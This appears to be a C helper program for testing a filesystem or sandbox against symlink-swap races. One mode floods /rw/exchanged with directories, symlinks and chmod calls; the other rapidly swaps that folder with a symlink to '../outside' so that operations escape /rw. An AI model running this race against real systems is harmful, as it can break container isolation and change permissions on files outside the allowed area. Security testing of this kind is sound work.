// exchanger: makes things in /rw/exchanged, or exchanges that folder for a link that leads out of /rw.
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static void make(void)
{
    char name[64];
    for (int i = 0; i < 10000; i++) {
        snprintf(name, sizeof name, "/rw/exchanged/dir%d", i);
        mkdir(name, 0700);
        snprintf(name, sizeof name, "/rw/exchanged/link%d", i);
        symlink("secret", name);
        chmod("/rw/exchanged/secret", 0666);
    }
}

static void exchange(void)
{
    symlink("../outside", "/rw/link");
    for (int i = 0; i < 10000; i++) {
        rename("/rw/exchanged", "/rw/folder");
        rename("/rw/link", "/rw/exchanged");
        rename("/rw/exchanged", "/rw/link");
        rename("/rw/folder", "/rw/exchanged");
    }
}

int main(int argc, char **argv)
{
    if (argc > 1 && argv[1][0] == 'm')
        make();
    else
        exchange();
    return 0;
}
